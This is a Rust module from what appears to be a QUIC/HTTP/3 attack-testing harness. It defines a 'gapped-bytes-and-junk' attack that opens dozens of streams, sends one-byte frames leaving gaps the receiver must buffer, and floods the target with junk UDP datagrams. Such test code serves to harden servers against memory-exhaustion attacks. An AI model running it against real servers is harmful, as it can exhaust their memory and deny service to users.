//! Bytes with gaps between them: what a receiver must keep until the gaps are filled.

use std::net::UdpSocket;
use std::time::Duration;

use anyhow::Result;
use quinn_proto::Dir;

use crate::client::h3::Http3;
use crate::client::packet;
use crate::{Attack, AttackContext};

pub(super) const ATTACKS: &[Attack] = &[Attack::new(
    "gapped-bytes-and-junk",
    "STREAM frames of a byte with gaps, with an unconnected address's junk between them",
    gapped,
)
.within(32)];

/// Bytes of junk between two packets: a block of the receiver's fills up.
const JUNK: usize = 1430;

fn gapped(context: &mut AttackContext<'_>) -> Result<()> {
    let target = context.target();
    let mut client = Http3::connect(&target, AttackContext::ATTACKER, 65_535)?;
    client.quic.drive(Duration::from_millis(200), |_| false);
    let streams = context.pick(40, 90);
    let mut ids = Vec::new();
    while ids.len() < streams
        && let Some(id) = client.quic.connection.streams().open(Dir::Bi)
    {
        ids.push(u64::from(id));
    }
    let junk = UdpSocket::bind((AttackContext::ATTACKER, 0))?;
    junk.connect(target.address)?;
    let junk_bytes = [0x40; JUNK];
    let mut sealer = client.quic.sealer();
    let bytes_each = context.pick(50_u64, 500);
    for k in 0..bytes_each {
        for id in &ids {
            let packet = sealer.packet(&packet::stream(*id, 2 * k + 1, b"x"));
            let _ = client.quic.socket().send(&packet);
            for _ in 0..context.pick(22, 4) {
                let _ = junk.send(&junk_bytes);
            }
            std::thread::sleep(Duration::from_micros(context.pick(150, 50)));
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    context.check("streams", "≥ 1", ids.len().to_string(), !ids.is_empty());
    Ok(())
}
